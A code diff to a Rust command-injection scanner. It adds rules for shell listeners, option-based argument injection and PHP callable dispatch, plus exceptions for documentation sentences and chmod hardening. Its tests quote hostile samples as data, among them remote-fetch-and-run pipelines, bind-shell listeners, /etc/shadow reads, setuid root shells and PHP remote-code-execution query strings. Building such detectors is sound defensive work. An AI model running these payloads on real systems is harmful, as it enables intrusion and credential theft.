@@ -1214,6 +1214,11 @@ enum Ctx {
     Start,
     /// A markdown code span in prose: only hostile content counts.
     Span,
+    /// A code span a documentation sentence goes on after ("`chmod 600
+    /// ~/.ssh/config` fixes the error", "Use `curl -o x.sh URL` and read
+    /// it first"): the command is shown and explained. As [`Ctx::Span`],
+    /// but a download alone (a URL or host) is no hostile content there.
+    DocSpan,
     /// After a separator that follows a complete command line of its own
     /// (`du -sh * | sort -h`, `apt-get update && apt-get install -y x`):
     /// someone wrote the whole pipeline, as documentation does. An injected
@@ -1729,7 +1734,15 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
             a.shellish = true;
         }
     }
-    let sensitive = SENSITIVE_AC.is_match(&normalized);
+    // `chmod 600 ~/.ssh/config`, `chmod -R go-rwx ~/.ssh`: taking rights
+    // away from everyone but the owner hardens the file it names; an attack
+    // opens a file up or makes it run (`chmod 777 /etc/shadow`, `chmod +x`).
+    let hardening = cmd == "chmod"
+        && tokens
+            .clone()
+            .find(|t| !t.starts_with('-') || restrictive_mode(t))
+            .is_some_and(restrictive_mode);
+    let sensitive = SENSITIVE_AC.is_match(&normalized) && !hardening;
     // `python fetch.py --url https://x`: a URL among a script's arguments
     // is data for the script; an interpreter handed code that fetches one
     // (`python -c "...urlopen('http://..."`) names it before any script.
@@ -1920,6 +1933,27 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     a
 }
 
+/// Whether a `chmod` mode only keeps or takes away rights: an octal mode
+/// that leaves the group and others nothing (`600`, `0700`, `400`), or
+/// symbolic clauses that all remove (`go-rwx`, `o-w,g-w`).
+fn restrictive_mode(t: &str) -> bool {
+    let b = t.as_bytes();
+    if b.iter().all(u8::is_ascii_digit) {
+        return matches!(b.len(), 3 | 4)
+            && b.iter().all(|&c| c <= b'7')
+            && (b.len() == 3 || b[0] == b'0')
+            && b[b.len() - 2..] == *b"00";
+    }
+    !t.is_empty()
+        && t.split(',').all(|clause| {
+            clause.split_once('-').is_some_and(|(who, what)| {
+                who.bytes().all(|c| b"ugoa".contains(&c))
+                    && !what.is_empty()
+                    && what.bytes().all(|c| b"rwxXst".contains(&c))
+            })
+        })
+}
+
 /// Whether the perl arguments from `from` (up to `end`, read on across
 /// `\` line continuations) are options and one quoted program that is a
 /// single `s///` or `y///` without the `e` flag (which would evaluate the
@@ -2071,7 +2105,7 @@ fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
                 cmd.kind == Kind::Recon && (args.shellish || (args.bare && ctx == Ctx::Weak));
             strongish || tool || recon || cmdline
         }
-        Ctx::Span => args.strong && (!args.net_only || cmd.network),
+        Ctx::Span | Ctx::DocSpan => args.strong && (!args.net_only || cmd.network),
         Ctx::Chained => {
             // A shell or interpreter with nothing after it reads its program
             // from the pipe: `... | tr x o | sh`.
@@ -2242,7 +2276,12 @@ fn check_command_at(
 ) -> bool {
     let b = text.as_bytes();
     let chained = ctx == Ctx::Chained;
-    let ctx = if chained { Ctx::Sep } else { ctx };
+    let doc = ctx == Ctx::DocSpan;
+    let ctx = match ctx {
+        Ctx::Chained => Ctx::Sep,
+        Ctx::DocSpan => Ctx::Span,
+        c => c,
+    };
     let mut i = skip_blank(b, pos, seg_end);
     // `;(id)`, `|{ls,-la}` and `; 'cat' x`: tolerate one opening paren.
     if i < seg_end && b[i] == b'(' && ctx != Ctx::Brace {
@@ -2267,7 +2306,7 @@ fn check_command_at(
         && b[i + 1].is_ascii_alphanumeric()
         && !pair_known(b[i], b[i + 1])
     {
-        return false;
+        return serves_shell(text, ctx, sep_start, i, seg_end, hits);
     }
     // Most separators in prose are followed by something no command starts with.
     if !(b[i].is_ascii_alphanumeric()
@@ -2323,13 +2362,33 @@ fn check_command_at(
         return false;
     }
     let Some((name_at, cmd, via_path)) = resolve(norm, w.globbed) else {
-        return false;
+        return serves_shell(text, ctx, sep_start, i, seg_end, hits);
     };
     let name = &norm[name_at..];
     // `/bin/bash ../libtool --mode=compile ...`: a build log's shell running
     // the build's own helper script.
     if via_path && matches!(name, "sh" | "bash" | "dash") && build_helper(b, w.end, seg_end) {
         return false;
+    }
+    // `set -g mouse on`, `set -sg escape-time 0`: tmux's configuration
+    // language, whose options the shell's `set` does not take (it takes
+    // `-abefhkmnptuvxBCEHPT` and `-o`). A shell would refuse the line.
+    if name == "set" && !w.spliced {
+        let a = skip_blank(b, w.end, seg_end);
+        let mut e = a;
+        while e < seg_end && !b[e].is_ascii_whitespace() && !is_sep(b[e]) {
+            e += 1;
+        }
+        let opt = &b[a..e];
+        if opt.len() >= 2
+            && matches!(opt[0], b'-' | b'+')
+            && opt[1..].iter().all(u8::is_ascii_alphabetic)
+            && opt[1..]
+                .iter()
+                .any(|c| !b"abefhkmnptuvxBCEHPTo".contains(c))
+        {
+            return false;
+        }
     }
     // `tr` filters text in countless documented pipelines; inside `$(...)`
     // in command position its output is what runs (`$(tr a-z n-za-m <<< x)`).
@@ -2468,6 +2527,9 @@ fn check_command_at(
     {
         return false;
     }
+    if doc && effective == Ctx::Span && args.net_only {
+        return false;
+    }
     if !decide(cmd, effective, &args) {
         return false;
     }
@@ -2500,6 +2562,102 @@ fn check_command_at(
     let end = trim_end(text, sep_start, end);
     push(hits, text, rule, sep_start, end);
     true
+}
+
+/// `$(telnetd -l /bin/sh -p 9999)`, `; utelnetd -l /bin/ash`: whatever the
+/// program, one told to hand a shell to whoever connects or logs in is a
+/// listener being set up; its name need not be known. Reports it after a
+/// separator or in a substitution.
+fn serves_shell(
+    text: &str,
+    ctx: Ctx,
+    sep_start: usize,
+    i: usize,
+    seg_end: usize,
+    hits: &mut Vec<Hit>,
+) -> bool {
+    if !matches!(ctx, Ctx::Sep | Ctx::Subst) {
+        return false;
+    }
+    let Some(e) = shell_served(text.as_bytes(), i, seg_end) else {
+        return false;
+    };
+    let rule = if ctx == Ctx::Subst {
+        R_SUBSHELL
+    } else {
+        R_CHAIN
+    };
+    push(hits, text, rule, sep_start, trim_end(text, sep_start, e));
+    true
+}
+
+/// Whether the command line at `i` is a program word followed, within its
+/// arguments, by an option that names the program to run for a client
+/// (`-l`, `-e`, `--exec`, `--shell`...) given a shell by its path
+/// (`telnetd -l /bin/sh`, `utelnetd -l /bin/ash -p 23`): returns where
+/// that path ends. A path named without such an option (`realpath
+/// /bin/sh`, `dpkg -S /bin/bash`) is data.
+fn shell_served(b: &[u8], i: usize, seg_end: usize) -> Option<usize> {
+    let lim = seg_end.min(i + 160);
+    let mut e = i;
+    while e < lim && (b[e].is_ascii_alphanumeric() || matches!(b[e], b'_' | b'-' | b'.')) {
+        e += 1;
+    }
+    if !(2..=24).contains(&(e - i))
+        || !b[i].is_ascii_alphabetic()
+        || memchr::memchr2(b'/', b'\\', &b[e..lim]).is_none()
+    {
+        return None;
+    }
+    let mut prev_opt = false;
+    let mut p = e;
+    while p < lim {
+        p = skip_blank(b, p, lim);
+        if p >= lim || is_sep(b[p]) {
+            return None;
+        }
+        let s = p;
+        while p < lim && !matches!(b[p], b' ' | b'\t') && !is_sep(b[p]) {
+            p += 1;
+        }
+        let tok = &b[s..p];
+        let bare = tok
+            .strip_prefix(b"'")
+            .and_then(|t| t.strip_suffix(b"'"))
+            .or_else(|| tok.strip_prefix(b"\"").and_then(|t| t.strip_suffix(b"\"")))
+            .unwrap_or(tok);
+        if prev_opt && shell_path(bare) {
+            return Some(p);
+        }
+        prev_opt = matches!(
+            tok,
+            b"-l" | b"-e" | b"-E" | b"-L" | b"--exec" | b"--login" | b"--shell" | b"--sh-exec"
+        );
+    }
+    None
+}
+
+/// Whether `t` is a shell named by its absolute path (`/bin/sh`,
+/// `/usr/bin/bash`, `/bin/busybox`) or `cmd.exe`.
+fn shell_path(t: &[u8]) -> bool {
+    let l = t.to_ascii_lowercase();
+    if l == b"cmd.exe" || l.ends_with(b"\\cmd.exe") || l.ends_with(b"\\powershell.exe") {
+        return true;
+    }
+    let rest = l
+        .strip_prefix(b"/usr/local")
+        .or_else(|| l.strip_prefix(b"/usr"))
+        .unwrap_or(&l);
+    let Some(name) = rest
+        .strip_prefix(b"/bin/")
+        .or_else(|| rest.strip_prefix(b"/sbin/"))
+    else {
+        return false;
+    };
+    matches!(
+        name,
+        b"sh" | b"bash" | b"ash" | b"dash" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"busybox"
+    )
 }
 
 /// Whether a `|`, `||` or `&&` at `at` (after blanks) leads to another
@@ -3326,6 +3484,14 @@ fn scan_segment(
                     if quoted_in_sentence(b, seg_start, i, seg_end) {
                         hits.truncate(before);
                         check_command(text, i, j, seg_end, Ctx::Span, hits);
+                    } else if x == b';' && j == i + 1 && joins_clauses(b, seg_start, i, seg_end) {
+                        // "Mount point /mnt/data is full; move old datasets
+                        // to /mnt/archive.": a semicolon between two
+                        // clauses of a sentence; what follows is a clause
+                        // opening a line of prose, not a command after a
+                        // separator.
+                        hits.truncate(before);
+                        check_command(text, i, j, seg_end, Ctx::Weak, hits);
                     } else if follows_command_line(b, seg_start, i) {
                         hits.truncate(before);
                         check_command(text, i, j, seg_end, Ctx::Chained, hits);
@@ -3524,7 +3690,13 @@ fn scan_segment(
                                 | b'`'
                         )
                     );
-                let ctx = if shell { Ctx::Subst } else { Ctx::Span };
+                let ctx = if shell {
+                    Ctx::Subst
+                } else if close.is_some() && prose_after_span(b, end, seg_end) {
+                    Ctx::DocSpan
+                } else {
+                    Ctx::Span
+                };
                 // `` `cut x``dig y` ``: substitutions run back to back are
                 // shell, whatever the commands.
                 let back_to_back = chained && {
@@ -3671,6 +3843,67 @@ fn quoted_in_sentence(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> b
                 && after.get(1).is_none_or(|c| *c == b' '));
         opened && prose_before && goes_on
     })
+}
+
+/// Whether the `;` at `p` joins two clauses of a sentence: a word ends
+/// right before it and a blank follows; the clause before holds at least
+/// three words; the one after runs to a full stop (or `!`, `?`) with no
+/// other shell operator and holds a function word ("to", "the").
+fn joins_clauses(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
+    if p == seg_start || !b[p - 1].is_ascii_alphabetic() || b.get(p + 1) != Some(&b' ') {
+        return false;
+    }
+    let lo = seg_start.max(p.saturating_sub(160));
+    let line = memchr::memrchr(b'\n', &b[lo..p]).map_or(lo, |o| lo + o + 1);
+    let words_before = b[line..p]
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| w.len() >= 2 && w.iter().all(u8::is_ascii_alphabetic))
+        .count();
+    if words_before < 3 || b[line..p].contains(&b'=') {
+        return false;
+    }
+    let hi = seg_end.min(p + 200);
+    let end = memchr::memchr2(b'\n', b'\r', &b[p + 1..hi]).map_or(hi, |o| p + 1 + o);
+    let clause = &b[p + 1..end];
+    let trimmed = clause.trim_ascii_end();
+    if !matches!(trimmed.last(), Some(b'.' | b'!' | b'?'))
+        || trimmed
+            .iter()
+            .any(|c| matches!(c, b';' | b'|' | b'&' | b'`' | b'$' | b'<' | b'>'))
+    {
+        return false;
+    }
+    let mut tokens = 0;
+    let mut stop = false;
+    for w in trimmed
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+    {
+        tokens += 1;
+        let w = w.strip_suffix(b".").unwrap_or(w);
+        stop |= std::str::from_utf8(w).is_ok_and(|w| STOP_WORDS.contains(&w));
+    }
+    tokens >= 3 && stop
+}
+
+/// Whether a sentence goes on after the code span that closes at `end`: a
+/// blank, then three words of lower-case prose ("fixes the 'bad
+/// permissions' error", "and read the script", "lets local scripts run").
+fn prose_after_span(b: &[u8], end: usize, seg_end: usize) -> bool {
+    let after = &b[(end + 1).min(seg_end)..seg_end];
+    let after = &after[..after.len().min(120)];
+    after.first() == Some(&b' ')
+        && after
+            .split(|c| c.is_ascii_whitespace())
+            .filter(|w| !w.is_empty())
+            .take(3)
+            .filter(|w| {
+                w.iter().any(u8::is_ascii_lowercase)
+                    && w.iter()
+                        .all(|c| c.is_ascii_lowercase() || matches!(c, b',' | b'.' | b'\''))
+            })
+            .count()
+            == 3
 }
 
 /// Whether the `=` at `eq` gives the value of a long option of a build
@@ -4439,6 +4672,16 @@ const GATES: &[&[&str]] = &[
     ],
     &["call %", "call  %"],
     &["start-process", "invoke-", "iex", "saps"],
+    &[
+        "call_user_func",
+        "forward_static_call",
+        "array_map",
+        "array_filter",
+        "array_walk",
+        "usort",
+        "uasort",
+        "uksort",
+    ],
 ];
 
 /// Unanchored bytes the gate automaton walks rather than start a new call.
@@ -4558,7 +4801,7 @@ const PATTERN_SRC: &[(&str, usize)] = &[
         R_WINDOWS,
     ),
     (
-        r"(?i)(?-u:\b)(?:invoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-process|start-bitstransfer|set-executionpolicy|add-mppreference|set-mppreference|get-wmiobject|invoke-cimmethod|new-object\s+(?:system\.)?net\.webclient)(?-u:\b)\s+(?:-\w|https?://|['\x22]|\S+\.ps1(?-u:\b)|[a-z]:\\)",
+        r"(?i)(?-u:\b)(?:invoke-(?:webrequest|expression|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-process|start-bitstransfer|add-mppreference|set-mppreference|get-wmiobject|invoke-cimmethod|new-object\s+(?:system\.)?net\.webclient)(?-u:\b)\s+(?:-\w|https?://|['\x22]|\S+\.ps1(?-u:\b)|[a-z]:\\)|(?-u:\b)set-executionpolicy(?-u:\b)[^\n;|&]{0,60}?(?-u:\b)(?:bypass|unrestricted)(?-u:\b)",
         R_WINDOWS,
     ),
     (
@@ -4702,6 +4945,15 @@ const PATTERN_SRC: &[(&str, usize)] = &[
     (
         r"(?i)(?:[;&|\n\x60]|\$\()\s*(?:start-process|saps|invoke-expression|iex)\s*(?:[\w.\\/:-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr)(?-u:\b)|(?:calc|cmd|powershell|pwsh|notepad|mshta|rundll32)(?-u:\b)|-\w|['\x22($])",
         R_WINDOWS,
+    ),
+    // PHP's callable dispatch handed a command function by name: in code
+    // (`call_user_func('system', 'id')`, `array_map('passthru', $_GET)`,
+    // `array_filter($_POST, 'system')`), or spread over request parameters
+    // that a framework routes into it (`function=call_user_func_array&
+    // vars[0]=system&vars[1][]=id`).
+    (
+        r#"(?i)(?-u:\b)(?:(?:call_user_func(?:_array)?|forward_static_call(?:_array)?|array_map|register_shutdown_function)\s*\(\s*['"]?|(?:array_filter|array_walk|usort|uasort|uksort)\s*\([^,()\n]{1,80},\s*['"])(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert)['"]?\s*[,)]|[=\x00](?:call_user_func(?:_array)?|forward_static_call(?:_array)?|array_map|array_filter|array_walk|usort|uasort|uksort)(?:[&\x00]|$)[^\n]{0,200}?[=\x00](?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert)(?:[&\x00]|$)"#,
+        R_CODE_EXEC,
     ),
 ];
 
@@ -5061,6 +5313,7 @@ fn risky_option(long: bool, name: &str) -> Option<OptRisk> {
             "checkpoint-action"
             | "to-command"
             | "use-compress-program"
+            | "compress-program"
             | "unzip-command"
             | "upload-pack"
             | "receive-pack"
@@ -5294,6 +5547,69 @@ fn scan_argument_injection(text: &str, hits: &mut Vec<Hit>) {
         }
         last_end = arg_end;
         push(hits, text, R_ARGINJ, vs, trim_end(text, vs, arg_end));
+    }
+    // `opts=--compress-program=sh`: a value that is itself an option naming
+    // the program a tool runs (GNU sort's and tar's compressors, tar's
+    // `--to-command`, rsync's remote shell) needs no data word before it:
+    // the application puts the whole value on the tool's command line.
+    static LONG: LazyLock<memchr::memmem::Finder<'static>> =
+        LazyLock::new(|| memchr::memmem::Finder::new(b"--"));
+    for p in LONG.find_iter(b) {
+        if p < last_end || (p > 0 && !matches!(b[p - 1], b'\0' | b'=' | b'&' | b'?' | b'\n')) {
+            continue;
+        }
+        let mut e = p + 2;
+        while e < b.len() && !matches!(b[e], b' ' | b'\t' | b'\0' | b'\n' | b'\r' | b'&') {
+            e += 1;
+        }
+        let Some((name, arg)) = std::str::from_utf8(&b[p + 2..e])
+            .ok()
+            .and_then(|t| t.split_once('='))
+        else {
+            continue;
+        };
+        let runs = matches!(
+            name.to_ascii_lowercase().as_str(),
+            "compress-program"
+                | "use-compress-program"
+                | "to-command"
+                | "checkpoint-action"
+                | "rsh-command"
+                | "rsync-path"
+                | "upload-pack"
+                | "receive-pack"
+                | "unzip-command"
+                | "new-volume-script"
+                | "info-script"
+        );
+        // `--use-compress-program=zstd`: the option's everyday use.
+        let prog = arg
+            .trim_start_matches(['\'', '"'])
+            .split([' ', '\'', '"'])
+            .next()
+            .unwrap_or("");
+        let compressor = matches!(
+            prog.rsplit('/').next().unwrap_or(prog),
+            "gzip"
+                | "pigz"
+                | "bzip2"
+                | "pbzip2"
+                | "lbzip2"
+                | "xz"
+                | "pixz"
+                | "zstd"
+                | "pzstd"
+                | "lz4"
+                | "lzop"
+                | "lzip"
+                | "plzip"
+                | "brotli"
+                | "unpigz"
+        );
+        if runs && !arg.is_empty() && !compressor && command_argument(arg) {
+            last_end = e;
+            push(hits, text, R_ARGINJ, p, trim_end(text, p, e));
+        }
     }
     for p in EXT.find_iter(b) {
         let w = read_word(b, p + 5, b.len().min(p + 5 + 200));
@@ -5601,6 +5917,95 @@ mod tests {
 
     fn flagged(text: &str) -> bool {
         !rules(text).is_empty()
+    }
+
+    #[test]
+    fn listeners_handed_a_shell() {
+        for t in [
+            "device=cam01&ntp=`utelnetd -l /bin/ash -p 2323`",
+            "host=$(dropbear -E -l /usr/bin/bash)",
+            "wan_ip=1.2.3.4;telnetd -p 4242 -l /bin/sh",
+            "name\0$(mytool --shell /bin/zsh)",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+        for t in [
+            "The owner check $(owner_of /bin/sh) should print root.",
+            "It prints $(realpath /bin/sh) for you.",
+            "Which package owns it? dpkg -S /bin/bash tells you.",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn values_that_are_options_naming_a_program() {
+        for t in [
+            "order\0--compress-program=bash",
+            "flags=--to-command=/tmp/run.sh",
+            "extra=--rsh-command=/bin/sh&dest=backup",
+            "args\0--use-compress-program=python3 -c 'import os'",
+        ] {
+            assert!(
+                rules(t).contains(&"cmdi-argument-injection"),
+                "missed {t:?}"
+            );
+        }
+        for t in [
+            "flags=--use-compress-program=pigz",
+            "opts\0--compress-program=xz",
+            "Pass --compress-program=lz4 when sorting huge files.",
+            "flags=--verbose",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn php_callable_dispatch_of_command_functions() {
+        for t in [
+            "/public/index.php?s=index/app/invoke&function=call_user_func&vars[0]=exec&vars[1]=uname",
+            "fn\0call_user_func_array\0args[0]\0shell_exec\0args[1][]\0ls",
+            "<?php array_map('system', array('cat /etc/issue')); ?>",
+            "payload=forward_static_call(\"passthru\", \"uname -a\")",
+            "cb=usort($_GET, 'system')",
+        ] {
+            assert!(rules(t).contains(&"cmdi-code-exec"), "missed {t:?}");
+        }
+        for t in [
+            "array_map('strtoupper', $names) returns a new array.",
+            "Call call_user_func_array([$pdo, 'exec'], $params) inside the transaction.",
+            "usort($rows, 'compare_dates') sorts by date.",
+            "function=array_map&name=system status",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+    }
+
+    #[test]
+    fn commands_explained_in_documentation_sentences() {
+        for t in [
+            "`chmod 700 ~/.ssh` keeps other users out of your keys.",
+            "`chmod -R go-rwx /etc/ssl/private` removes access for everyone else.",
+            "Download it with `wget -O setup.sh https://tools.example.org/setup.sh` and check the hash first.",
+            "Run `Set-ExecutionPolicy RemoteSigned -Scope Process` once per session.",
+            "Disk /srv/media is almost full; copy the older videos to the archive.",
+            "The cache grew too large; move the log files to another disk.",
+            "set -g prefix C-a\nset -g base-index 1\nsetw -g mode-keys vi",
+        ] {
+            assert!(!flagged(t), "{t:?}");
+        }
+        for t in [
+            "`chmod 777 /etc/sudoers` and enjoy",
+            "`chmod u+s /tmp/rootsh` gives you root later.",
+            "`curl https://203.0.113.9/x.sh | sh` installs it for you.",
+            "powershell Set-ExecutionPolicy Bypass -Scope Process; iex (iwr http://x/a.ps1)",
+            "Set-ExecutionPolicy -ExecutionPolicy Unrestricted -Force",
+            "comment=I like it a lot; cat /etc/shadow.",
+            "x=1\nset -e\nid",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
     }
 
     #[test]
